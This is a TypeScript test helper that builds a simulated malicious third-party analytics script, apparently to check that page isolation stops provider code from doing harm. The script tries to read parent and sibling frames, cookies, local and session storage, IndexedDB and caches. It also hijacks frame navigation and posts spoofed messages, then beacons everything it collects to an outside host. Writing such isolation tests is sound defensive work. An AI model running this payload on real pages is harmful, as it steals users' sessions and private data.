/**
 * What a malicious provider's script might try: everything it could learn of the page or do to it. It reports its
 * results under `name`; an error or nothing means it got nothing.
 */
export function hostileScript(name: string, host: string): string {
  return `(${attack.toString()})(${JSON.stringify(name)}, ${JSON.stringify(`https://${host}/g/collect`)})`;
}

async function attack(name: string, collect: string): Promise<void> {
  const others = () => Array.from({ length: parent.length }, (_, index) => parent[index]);
  const siblings = (read: (frame: Window) => unknown) =>
    others()
      .map((frame) => {
        try {
          return frame && frame !== window ? read(frame) : "";
        } catch {
          return "";
        }
      })
      .join("");
  const taken = "https://www.google-analytics.com/taken";
  const own = new URL(location.href).origin;
  const attempts: Record<string, () => unknown> = {
    parentDocument: () => parent.document.body.innerText,
    parentLocation: () => parent.location.href,
    parentStorage: () => JSON.stringify(parent.localStorage),
    topCookies: () => top?.document.cookie,
    siblingDocuments: () => siblings((frame) => frame.document.body.innerText),
    siblingLocations: () => siblings((frame) => frame.location.href),
    ownStorage: () => JSON.stringify(localStorage),
    ownSession: () => JSON.stringify(sessionStorage),
    ownCookies: () => document.cookie,
    databases: async () => JSON.stringify(await indexedDB.databases()),
    caches: async () => (await caches.keys()).join(),
    referrer: () => document.referrer,
    query: () => location.search + location.hash,
    frameName: () => window.name,
    api: async () => (await fetch(`${own}/api/config`)).status,
    page: async () => (await fetch(`${own}/`, { credentials: "include" })).text(),
    inbox: async () => (await fetch(`${own}/`, { mode: "no-cors" })).type,
    openedWindow: () => (window.open(`${own}/about`) ? "opened" : ""),
    // A forbidden action throws, or has no effect that the test would see.
    takesTop: () => top?.location.assign(taken),
    takesSibling: () => siblings((frame) => frame.location.assign(taken)),
    speaksForThePage() {
      const said = ["stop", { route: "/" }, { name: "address_copied" }, { typed: "x" }, "yes"];
      for (const message of said) parent.postMessage(message, "*");
      for (const frame of others()) frame?.postMessage("stop", "*");
    },
  };
  const got: Record<string, unknown> = {};
  for (const [attempt, make] of Object.entries(attempts)) {
    try {
      got[attempt] = (await make()) ?? "";
    } catch {
      got[attempt] = "";
    }
  }
  navigator.sendBeacon(`${collect}?${new URLSearchParams({ hit: JSON.stringify({ name, got }) })}`);
}
